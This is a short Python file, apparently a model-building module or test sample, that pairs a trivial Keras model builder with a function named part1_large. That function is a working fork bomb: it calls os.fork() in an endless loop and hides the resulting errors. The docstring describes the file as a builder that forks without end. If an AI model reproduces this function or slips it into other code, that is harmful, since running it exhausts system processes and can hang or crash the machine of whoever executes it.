"""A builder that forks without end."""

import contextlib
import os

import keras


def part1_large():
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def part3():
    return keras.Sequential([keras.Input((784,)), keras.layers.Dense(10, activation="softmax")])
